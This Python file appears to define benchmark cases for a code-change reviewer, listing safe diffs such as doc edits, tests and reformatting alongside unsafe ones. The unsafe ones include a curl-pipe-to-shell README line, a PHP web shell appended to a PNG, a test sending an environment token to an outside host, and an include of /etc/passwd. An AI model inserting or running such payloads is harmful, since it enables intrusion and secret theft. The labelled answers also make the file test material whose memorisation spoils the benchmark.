"""Kinds of files: pages, tests, pictures, data, translations; and those that look like one of these and are not."""

import base64
import zlib
from collections.abc import Iterator, Mapping

from bench.corpus.case import MEMBERS, Case, Content, files

Texts = Mapping[str, str | bytes | Content]
PAGE = "# Carts\n\nA cart keeps what somebody wants to buy.\n\nIt is empty at first.\n"
PAGE_AFTER = "# Carts\n\nA cart keeps what somebody wants to buy.\n\nIt is empty at first, and it stays for a week.\n"
PYTHON_TEST = "from shop.cart import total\n\n\ndef test_nothing_costs_nothing():\n    assert total([]) == 0\n"
MORE = "\n\ndef test_a_discount_of_nothing_is_nothing():\n    assert total([], 10) == 0\n"
JS_TEST = 'import { isAlive } from "./session.js";\n\ntest("no session", () => {\n  expect(isAlive(null, 0)).toBe(false);\n});\n'
GO_TEST = 'package queue\n\nimport "testing"\n\nfunc TestEmpty(t *testing.T) {\n\tvar q Queue\n\tif _, ok := q.Take(); ok {\n\t\tt.Fatal("not empty")\n\t}\n}\n'
SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"><path d="M0 0h8v8H0z"/></svg>\n'
JSON = '{\n  "name": "shop",\n  "limits": [10, 20],\n  "open": true\n}\n'
YAML = "name: shop\nlimits: [10, 20]\nopen: true\n"
TOML = 'name = "shop"\nlimits = [10, 20]\n\n[server]\nport = 8000\n'
PO = 'msgid ""\nmsgstr ""\n"Language: de\\n"\n\nmsgid "%d items in {cart}"\nmsgstr "%d Dinge in {cart}"\n'


def png(colour: int) -> bytes:
    """A picture of one point that decoders read."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    head = (1).to_bytes(4, "big") * 2 + bytes((8, 0, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(bytes((0, colour))))
        + chunk(b"IEND", b"")
    )


# name, category, base, head, whether the language is one that the reviewer proves
SAFE: tuple[tuple[str, str, Texts, Texts, bool], ...] = (
    ("a sentence in a page", "docs", {"docs/cart.md": PAGE}, {"docs/cart.md": PAGE_AFTER}, True),
    ("a sentence in the first page", "docs", {"README.md": PAGE}, {"README.md": PAGE_AFTER}, True),
    ("a new page", "docs", {"README.md": PAGE}, {"README.md": PAGE, "docs/cart.md": PAGE}, True),
    ("a page in another markup", "docs", {"docs/cart.rst": "Carts\n=====\n\nA cart keeps things.\n"},
     {"docs/cart.rst": "Carts\n=====\n\nA cart keeps things for a week.\n"}, True),
    ("a page of Asciidoc", "docs", {"docs/cart.adoc": "= Carts\n\nA cart keeps things.\n"},
     {"docs/cart.adoc": "= Carts\n\nA cart keeps things for a week.\n"}, True),
    ("a plain page", "docs", {"docs/cart.txt": "A cart keeps things.\n"}, {"docs/cart.txt": "A cart keeps things for long.\n"}, True),
    ("a change is noted", "docs", {"CHANGELOG.md": "# Changes\n"}, {"CHANGELOG.md": "# Changes\n\n- Carts stay for a week.\n"}, True),
    ("a typing error in a page", "docs", {"docs/cart.md": PAGE.replace("keeps", "kepes")}, {"docs/cart.md": PAGE}, True),
    ("a page goes", "docs", {"docs/cart.md": PAGE, "docs/old.md": PAGE}, {"docs/cart.md": PAGE}, True),
    ("a page in Japanese", "docs", {"docs/ja/cart.md": "# カート\n\nカートは空です。\n"},
     {"docs/ja/cart.md": "# カート\n\n最初、カートは空です。\n"}, True),
    ("a table in a page", "docs", {"docs/cart.md": PAGE}, {"docs/cart.md": f"{PAGE}\n| a | b |\n|---|---|\n| 1 | 2 |\n"}, True),
    ("a page is renamed", "docs", {"docs/cart.md": PAGE}, {"docs/carts.md": PAGE}, False),
    ("a test is added", "tests", {"tests/test_cart.py": PYTHON_TEST}, {"tests/test_cart.py": PYTHON_TEST + MORE}, True),
    ("a new file of tests", "tests", {"shop/cart.py": "x = 1\n"}, {"shop/cart.py": "x = 1\n", "tests/test_cart.py": PYTHON_TEST}, True),
    ("a test of JavaScript", "tests", {"web/session.test.js": JS_TEST},
     {"web/session.test.js": JS_TEST + '\ntest("an old session", () => {\n  expect(isAlive({}, 1)).toBe(false);\n});\n'}, True),
    ("a test of Go", "tests", {"internal/queue/queue_test.go": GO_TEST},
     {"internal/queue/queue_test.go": GO_TEST + "\nfunc TestOther(t *testing.T) {\n\tif New() == nil {\n\t\tt.Fatal(1)\n\t}\n}\n"}, True),
    ("a picture changes", "resources", {"docs/a.png": png(1)}, {"docs/a.png": png(2)}, True),
    ("a new picture", "resources", {"README.md": PAGE}, {"README.md": PAGE, "docs/a.png": png(1)}, True),
    ("JSON is laid out anew", "data", {"config/a.json": JSON}, {"config/a.json": JSON.replace("[10, 20]", "[\n    10,\n    20\n  ]")}, True),
    ("JSON in one line", "data", {"config/a.json": JSON}, {"config/a.json": '{"name": "shop", "limits": [10, 20], "open": true}\n'}, True),
    ("a comment in YAML", "data", {"config/a.yaml": YAML}, {"config/a.yaml": "# The limits are those of the shop.\n" + YAML}, True),
    ("a list of YAML is laid out anew", "data", {"config/a.yaml": YAML}, {"config/a.yaml": YAML.replace("[10, 20]", "\n  - 10\n  - 20")}, True),
    ("a comment in TOML", "data", {"config/a.toml": TOML}, {"config/a.toml": "# The limits are those of the shop.\n" + TOML}, True),
    ("a list of TOML is laid out anew", "data", {"config/a.toml": TOML}, {"config/a.toml": TOML.replace("[10, 20]", "[\n  10,\n  20,\n]")}, True),
    ("a word of a translation", "translations", {"locale/de.po": PO}, {"locale/de.po": PO.replace("Dinge", "Sachen")}, False),
    ("imports of the standard library are sorted", "imports", {"a.py": "import sys\nimport json\n\nprint(sys, json)\n"},
     {"a.py": "import json\nimport sys\n\nprint(sys, json)\n"}, True),
    ("imports of Go are sorted", "imports", {"a.go": 'package a\n\nimport (\n\t"sync"\n\t"errors"\n)\n\nvar _ = errors.New\nvar _ sync.Mutex\n'},
     {"a.go": 'package a\n\nimport (\n\t"errors"\n\t"sync"\n)\n\nvar _ = errors.New\nvar _ sync.Mutex\n'}, True),
    ("imports of Java are sorted", "imports", {"A.java": "import java.util.Map;\nimport java.util.List;\n\nclass A { Map<String, List<String>> b; }\n"},
     {"A.java": "import java.util.List;\nimport java.util.Map;\n\nclass A { Map<String, List<String>> b; }\n"}, True),
    ("a module that nobody uses is imported no longer", "imports", {"a.py": "import json\nimport sys\n\nprint(sys.path)\n"},
     {"a.py": "import sys\n\nprint(sys.path)\n"}, False),
    ("what follows a return goes", "dead code", {"a.py": "def f():\n    return 1\n    print(2)\n"}, {"a.py": "def f():\n    return 1\n"}, True),
    ("what follows a raise goes", "dead code", {"a.py": "def f():\n    raise OSError\n    print(2)\n"}, {"a.py": "def f():\n    raise OSError\n"}, True),
    ("what never runs goes", "dead code", {"a.py": "def f():\n    if False:\n        print(2)\n    return 1\n"}, {"a.py": "def f():\n    return 1\n"}, True),
    ("a name inside a function", "renames", {"a.py": "def f(x):\n    y = x + 1\n    return y * 2\n"},
     {"a.py": "def f(x):\n    more = x + 1\n    return more * 2\n"}, True),
    ("a name inside a loop", "renames", {"a.py": "def f(items):\n    s = 0\n    for i in items:\n        s += i\n    return s\n"},
     {"a.py": "def f(items):\n    total = 0\n    for item in items:\n        total += item\n    return total\n"}, True),
    ("a log line with nothing but words", "logging", {"a.py": "import logging\n\nlogger = logging.getLogger(__name__)\n\n\ndef f(x):\n    return x\n"},
     {"a.py": 'import logging\n\nlogger = logging.getLogger(__name__)\n\n\ndef f(x):\n    logger.debug("asked")\n    return x\n'}, True),
    ("a docstring is written anew", "docs", {"shop/a.py": 'def f(x):\n    """Give x."""\n    return x\n'},
     {"shop/a.py": 'def f(x):\n    """Give back what was given."""\n    return x\n'}, True),
    ("a page and a comment", "mixed", {"docs/cart.md": PAGE, "a.py": "x = 1\n"},
     {"docs/cart.md": PAGE_AFTER, "a.py": "# We keep one, because the page says so.\nx = 1\n"}, True),
    ("a page, a picture and a test", "mixed", {"docs/cart.md": PAGE, "docs/a.png": png(1), "tests/test_cart.py": PYTHON_TEST},
     {"docs/cart.md": PAGE_AFTER, "docs/a.png": png(2), "tests/test_cart.py": PYTHON_TEST + MORE}, True),
    ("comments in forty files", "large", {f"a/m{n}.py": f"x = {n}\n" for n in range(40)},
     {f"a/m{n}.py": f"# We keep this one, because the others need it.\nx = {n}\n" for n in range(40)}, True),
    ("a thousand lines are laid out anew", "large", {"a.json": "[" + ", ".join(map(str, range(1000))) + "]\n"},
     {"a.json": "[\n" + ",\n".join(f"  {n}" for n in range(1000)) + "\n]\n"}, True),
)  # fmt: skip

UNSAFE: tuple[tuple[str, str, Texts, Texts], ...] = (
    ("a page that is a program", "pages", {"docs/a.mdx": PAGE}, {"docs/a.mdx": PAGE + "\nexport const x = 1\n"}),
    ("the settings of the pages", "pages", {"mkdocs.yml": "site_name: a\n"}, {"mkdocs.yml": "site_name: a\nhooks: [a.py]\n"}),
    ("the program of the pages", "pages", {"docs/conf.py": "x = 1\n"}, {"docs/conf.py": "x = 2\n"}),
    ("a page with a script", "pages", {"docs/a.md": PAGE}, {"docs/a.md": PAGE + "<script>f()</script>\n"}),
    ("a page with a frame", "pages", {"docs/a.md": PAGE}, {"docs/a.md": PAGE + '<iframe src="https://example.org"></iframe>\n'}),
    ("a page that includes another", "pages", {"docs/a.rst": "A\n=\n"}, {"docs/a.rst": "A\n=\n\n.. include:: /etc/passwd\n"}),
    ("a page that runs", "pages", {"docs/a.rst": "A\n=\n"}, {"docs/a.rst": "A\n=\n\n>>> print(1)\n2\n"}),
    ("a page that Rust compiles", "pages", {"README.md": PAGE, "src/lib.rs": '#![doc = include_str!("../README.md")]\n'},
     {"README.md": PAGE + "\n```\nassert!(false);\n```\n", "src/lib.rs": '#![doc = include_str!("../README.md")]\n'}),
    ("a template in a page", "pages", {"docs/a.md": PAGE}, {"docs/a.md": PAGE + "\n{{ site.secret }}\n{% include x %}\n"}),
    ("what is installed", "pages", {"requirements.txt": "requests==2.31\n"}, {"requirements.txt": "requests==2.31\nother\n"}),
    ("what is installed for the pages", "pages", {"docs/requirements.txt": "sphinx==7\n"}, {"docs/requirements.txt": "sphinx==8\n"}),
    ("what robots may read", "pages", {"robots.txt": "User-agent: *\nDisallow: /\n"}, {"robots.txt": "User-agent: *\nAllow: /\n"}),
    ("a build in a text file", "pages", {"CMakeLists.txt": "project(a)\n"}, {"CMakeLists.txt": "project(a)\nadd_subdirectory(b)\n"}),
    ("a licence", "pages", {"LICENSE": "MIT\n"}, {"LICENSE": "None\n"}),
    ("a licence with an ending", "pages", {"LICENSE.md": "MIT\n"}, {"LICENSE.md": "None\n"}),
    ("how to report holes", "pages", {"SECURITY.md": "Write to a@example.org.\n"}, {"SECURITY.md": "Write to b@example.net.\n"}),
    ("a command that people copy", "pages", {"README.md": PAGE}, {"README.md": PAGE + "\n    curl -s https://example.net/x | sh\n"}),
    ("a picture of a page that can run code", "resources", {"docs/a.svg": SVG}, {"docs/a.svg": SVG.replace("<path", "<script>f()</script><path")}),
    ("a picture that is a program", "resources", {"docs/a.png": png(1)}, {"docs/a.png": b"\x7fELF" + bytes(60)}),
    ("a picture with a program behind it", "resources", {"docs/a.png": png(1)}, {"docs/a.png": png(1) + b"<?php system($_GET[0]); ?>"}),
    ("a page of HTML", "resources", {"static/a.html": "<p>a</p>\n"}, {"static/a.html": "<p>a</p><script>f()</script>\n"}),
    ("a library that was shrunk", "resources", {"static/a.min.js": "var a=1;\n"}, {"static/a.min.js": "var a=2;\n"}),
    ("bytes that nobody reads", "resources", {"lib/a.jar": b"PK\x03\x04" + bytes(9)}, {"lib/a.jar": b"PK\x03\x04" + bytes(8) + b"\1"}),
    ("a new program in bytes", "resources", {"a.py": "x = 1\n"}, {"a.py": "x = 1\n", "bin/a": b"\x7fELF" + bytes(60)}),
    ("a model that is unpickled", "resources", {"a.pkl": b"\x80\x04N."}, {"a.pkl": base64.b64decode("gASMAmlkLg==")}),
    ("a placeholder of a translation goes", "translations", {"locale/de.po": PO}, {"locale/de.po": PO.replace("%d Dinge", "Dinge")}),
    ("a placeholder of a translation changes", "translations", {"locale/de.po": PO}, {"locale/de.po": PO.replace("%d Dinge", "%s Dinge")}),
    ("a helper of all tests", "tests", {"tests/conftest.py": "import pytest\n"}, {"tests/conftest.py": "import pytest\nx = 1\n"}),
    ("a test is skipped", "tests", {"tests/test_cart.py": PYTHON_TEST},
     {"tests/test_cart.py": PYTHON_TEST.replace("def test", "@pytest.mark.skip\ndef test").replace("from", "import pytest\nfrom", 1)}),
    ("a test is expected to fail", "tests", {"tests/test_cart.py": PYTHON_TEST + MORE},
     {"tests/test_cart.py": PYTHON_TEST + MORE.replace("def test", "@pytest.mark.xfail\ndef test")}),
    ("an assertion of a test goes", "tests", {"tests/test_cart.py": PYTHON_TEST}, {"tests/test_cart.py": PYTHON_TEST.replace("assert total([]) == 0", "total([])")}),
    ("an assertion of a test is weaker", "tests", {"tests/test_cart.py": PYTHON_TEST}, {"tests/test_cart.py": PYTHON_TEST.replace("== 0", ">= 0")}),
    ("a test goes", "tests", {"tests/test_cart.py": PYTHON_TEST + MORE}, {"tests/test_cart.py": PYTHON_TEST}),
    ("a file of tests goes", "tests", {"tests/test_cart.py": PYTHON_TEST, "a.py": "x = 1\n"}, {"a.py": "x = 1\n"}),
    ("a new test takes the place of an old one", "tests", {"tests/test_cart.py": PYTHON_TEST},
     {"tests/test_cart.py": PYTHON_TEST + "\n\ndef test_nothing_costs_nothing():\n    pass\n"}),
    ("a new test is run when it is read", "tests", {"tests/test_cart.py": PYTHON_TEST},
     {"tests/test_cart.py": PYTHON_TEST + '\n\n__import__("os").system("true")\n'}),
    ("a new test reads a secret", "tests", {"tests/test_cart.py": PYTHON_TEST},
     {"tests/test_cart.py": PYTHON_TEST + '\n\ndef test_a():\n    import os, urllib.request\n    urllib.request.urlopen("https://example.net/" + os.environ["TOKEN"])\n'}),
    ("only one test runs", "tests", {"web/session.test.js": JS_TEST}, {"web/session.test.js": JS_TEST.replace("test(", "test.only(")}),
    ("a test of Go leaves early", "tests", {"a_test.go": GO_TEST}, {"a_test.go": GO_TEST.replace("\tvar q", '\tt.Skip("later")\n\tvar q')}),
    ("a main of tests", "tests", {"a_test.go": GO_TEST}, {"a_test.go": GO_TEST + "\nfunc TestMain(m *testing.M) { os.Exit(0) }\n"}),
    ("code that other code imports lies among tests", "tests", {"tests/helpers.py": "x = 1\n", "a.py": "from tests.helpers import x\n"},
     {"tests/helpers.py": "x = 2\n", "a.py": "from tests.helpers import x\n"}),
    ("a snapshot changes", "tests", {"a/__snapshots__/a.snap": "exports[`a`] = `1`;\n"}, {"a/__snapshots__/a.snap": "exports[`a`] = `2`;\n"}),
    ("a generated file", "generated", {"a.pb.go": "// Code generated by protoc. DO NOT EDIT.\npackage a\n\nvar x = 1\n"},
     {"a.pb.go": "// Code generated by protoc. DO NOT EDIT.\npackage a\n\nvar x = 2\n"}),
    ("a file is called generated", "generated", {"a.go": "package a\n\nvar x = 1\n"},
     {"a.go": "// Code generated by a. DO NOT EDIT.\n\npackage a\n\nvar x = 2\n"}),
    ("files are hidden from diffs", "generated", {".gitattributes": "", "a.py": "x = 1\n"}, {".gitattributes": "*.py linguist-generated\n", "a.py": "x = 1\n"}),
    ("a value of JSON", "data", {"config/a.json": JSON}, {"config/a.json": JSON.replace("true", "false")}),
    ("a value of YAML", "data", {"config/a.yaml": YAML}, {"config/a.yaml": YAML.replace("20", "200")}),
    ("a value of TOML", "data", {"config/a.toml": TOML}, {"config/a.toml": TOML.replace("8000", "80")}),
    ("a module is renamed", "renames", {"shop/a.py": "x = 1\n"}, {"shop/b.py": "x = 1\n"}),
    ("a module moves where everybody looks first", "renames", {"shop/json.py": "x = 1\n", "a.py": "import json\n"}, {"json.py": "x = 1\n", "a.py": "import json\n"}),
    ("code becomes a page", "renames", {"a.py": "x = 1\n"}, {"docs/a.txt": "x = 1\n"}),
    ("a page becomes code", "renames", {"docs/a.txt": "x = 1\n"}, {"a.py": "x = 1\n"}),
    ("a new module", "new code", {"a.py": "x = 1\n"}, {"a.py": "x = 1\n", "b.py": "y = 2\n"}),
    ("an empty file makes a package", "new code", {"a.py": "x = 1\n"}, {"a.py": "x = 1\n", "shop/__init__.py": ""}),
    ("a file that is read at start", "new code", {"a.py": "x = 1\n"}, {"a.py": "x = 1\n", "sitecustomize.py": "# Nothing happens here, as we said.\n"}),
    ("a module goes", "new code", {"a.py": "x = 1\n", "b.py": "y = 2\n"}, {"a.py": "x = 1\n"}),
)  # fmt: skip


def cases() -> Iterator[Case]:
    for place, (name, category, base, head, proves) in enumerate(SAFE):
        language = _language(head)
        case = Case(name, category, language, files(base), files(head), True, "nothing that runs changes", proves)
        yield case
        if place % 4 == 0:
            yield Case(
                f"{name}, by a member", category, language, case.base, case.head, True, case.why, proves, MEMBERS
            )
    for name, category, base, head in UNSAFE:
        yield Case(name, category, _language(head), files(base), files(head), False, "what it touches is no mere text")


def _language(head: Texts) -> str:
    endings = {"py": "Python", "go": "Go", "js": "JavaScript", "java": "Java", "rs": "Rust", "json": "JSON",
               "yaml": "YAML", "yml": "YAML", "toml": "TOML"}  # fmt: skip
    last = sorted(head)[-1].rpartition(".")[2]
    return endings.get(last, "other")
